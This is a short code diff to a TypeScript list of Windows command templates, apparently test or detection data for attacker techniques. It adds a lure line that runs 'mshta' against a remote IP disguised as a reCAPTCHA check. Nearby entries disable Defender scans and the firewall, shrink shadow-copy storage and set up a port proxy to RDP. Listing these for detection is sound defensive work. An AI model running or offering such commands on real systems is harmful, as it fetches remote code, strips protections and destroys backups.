@@ -38,6 +38,7 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
     'schtasks /Change /TN "Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan" /Disable',
   ],
   ['netsh-firewall-off', 'windows', 'netsh advfirewall set allprofiles state off'],
+  ['pasted-command-lure', 'windows', 'mshta https://198.51.100.9/check # I am not a robot - reCAPTCHA Verification ID: 2817'],
   ['netsh-firewall-opmode-off', 'windows', 'netsh firewall set opmode mode=disable'],
   ['vssadmin-resize-shadowstorage', 'windows', 'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB'],
   ['netsh-portproxy', 'windows', 'netsh interface portproxy add v4tov4 listenport=4443 connectaddress=10.1.2.3 connectport=3389'],
